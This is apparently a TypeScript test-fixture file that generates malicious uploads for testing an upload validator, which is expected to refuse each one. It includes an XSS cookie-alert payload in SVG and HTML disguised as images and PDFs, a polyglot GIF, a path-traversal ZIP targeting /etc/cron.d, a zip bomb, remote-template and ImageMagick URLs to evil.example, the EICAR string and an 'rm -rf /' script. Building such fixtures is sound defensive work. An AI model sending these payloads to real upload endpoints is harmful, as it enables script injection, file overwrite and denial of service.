import { crc32, deflateRawSync } from 'node:zlib'

/** One file meant to harm, built afresh. */
export interface HostileFile {
  is: string
  make: () => Buffer | Promise<Buffer>
  name?: string
  mime?: string
  kind?: string
  /** It must be refused with these words … */
  refused?: string
  /** … or come out again without these. */
  gone?: string[]
}

/** A ZIP archive, deflated, with the paths exactly as given. */
export function zip(entries: Record<string, string | Buffer>): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const [name, content] of Object.entries(entries)) {
    const clear = Buffer.from(content)
    const packed = deflateRawSync(clear)
    const path = Buffer.from(name)
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt16LE(8, 4)
    common.writeUInt32LE(crc32(clear), 10)
    common.writeUInt32LE(packed.length, 14)
    common.writeUInt32LE(clear.length, 18)
    common.writeUInt16LE(path.length, 22)
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), common, path, packed])
    const place = Buffer.alloc(14)
    place.writeUInt32LE(offset, 10)
    centrals.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\0', 'latin1'), common, place, path]))
    locals.push(local)
    offset += local.length
  }
  const directory = Buffer.concat(centrals)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(centrals.length, 8)
  end.writeUInt16LE(centrals.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, directory, end])
}

const text = (content: string): Buffer => Buffer.from(content, 'latin1')
// In two halves, so that no scanner takes this source for the thing itself.
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD', '-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
const zeros = Buffer.alloc(5_000_000)
const script = '<script>alert(document.cookie)</script>'
const externalRelation =
  '<Relationships><Relationship Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'

/** Files of kinds that never come in, whatever they are called. */
export const hostileFiles: HostileFile[] = [
  { is: 'a GIF that is also a script', make: () => text('GIF89a/*\x01\0\x01\0\0\0*/=1;alert(1)//;') },
  {
    is: 'an SVG with a script',
    make: () => text(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
    name: 'a.svg',
    mime: 'image/svg+xml',
  },
  {
    is: 'an SVG that calls itself PNG',
    make: () => text(`<?xml version="1.0"?><svg>${script}</svg>`),
    name: 'a.png',
    mime: 'image/png',
  },
  {
    is: 'a web page that calls itself JPG',
    make: () => text(`<!doctype html>${script}`),
    name: 'a.jpg',
    mime: 'image/jpeg',
  },
  {
    is: 'a web page with a PDF header in it',
    make: () => text(`${script}\n%PDF-1.7\n%%EOF`),
    name: 'a.pdf',
    mime: 'application/pdf',
  },
  {
    is: 'a PHAR',
    make: () => text('<?php __HALT_COMPILER(); ?>\r\n\x40\0\0\0\x01\0\0\0GBMB'),
    name: 'a.phar',
  },
  { is: 'a ZIP', make: () => zip({ 'a.txt': 'hello' }), name: 'a.zip' },
  {
    is: 'a ZIP that climbs out of its folder',
    make: () => zip({ '../../../../etc/cron.d/x': '* * * * *' }),
    name: 'a.jpg',
  },
  {
    is: 'a ZIP in a ZIP in a ZIP',
    make: () => zip({ 'b.zip': zip({ 'c.zip': zip({ 'd.txt': 'deep' }) }) }),
    name: 'a.pdf',
  },
  {
    is: 'a ZIP that unfolds a thousandfold',
    make: () => {
      const inner = zip({ zeros })
      return zip(Object.fromEntries(Array.from({ length: 40 }, (_, nth) => [`${nth}.zip`, inner])))
    },
    name: '42.zip',
  },
  {
    is: 'a Word file that fetches a template',
    make: () => zip({ '[Content_Types].xml': '<Types/>', 'word/_rels/settings.xml.rels': externalRelation }),
    name: 'a.docx',
  },
  {
    is: 'a Word file with macros',
    make: () => zip({ '[Content_Types].xml': '<Types/>', 'word/vbaProject.bin': 'Attribute VB_Name' }),
    name: 'a.docm',
  },
  { is: 'an old Word file', make: () => text('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), name: 'a.doc' },
  { is: 'the virus test file', make: () => text(eicar), name: 'eicar.com' },
  { is: 'the virus test file as a JPG', make: () => text(eicar), name: 'eicar.jpg', mime: 'image/jpeg' },
  { is: 'a Windows program', make: () => text('MZ\x90\0\x03\0\0\0'), name: 'photo.jpg' },
  { is: 'a Linux program', make: () => text('\x7fELF\x02\x01\x01'), name: 'photo.jpg' },
  { is: 'a shell script', make: () => text('#!/bin/sh\nrm -rf /'), name: 'photo.jpg.sh' },
  { is: 'a HEIC photo', make: () => text('\0\0\0\x18ftypheic\0\0\0\0'), name: 'a.heic' },
  { is: 'an AVIF picture', make: () => text('\0\0\0\x18ftypavif\0\0\0\0'), name: 'a.avif' },
  { is: 'a TIFF', make: () => text('II*\0\x08\0\0\0'), name: 'a.tif' },
  { is: 'a BMP', make: () => text('BM\x46\0\0\0\0\0'), name: 'a.bmp' },
  { is: 'PostScript', make: () => text('%!PS-Adobe-3.0\n(%stdin) run'), name: 'a.pdf' },
  {
    is: 'an ImageMagick drawing',
    make: () => text("push graphic-context\nfill 'url(https://evil.example/x)'"),
    name: 'a.png',
  },
  {
    is: 'a PDF behind a ZIP',
    make: () => Buffer.concat([zip({ a: 'b' }), text('%PDF-1.4\n%%EOF')]),
    name: 'a.pdf',
  },
  { is: 'one byte', make: () => text('\xff') },
].map(file => ({ ...file, refused: '无法识别' }))
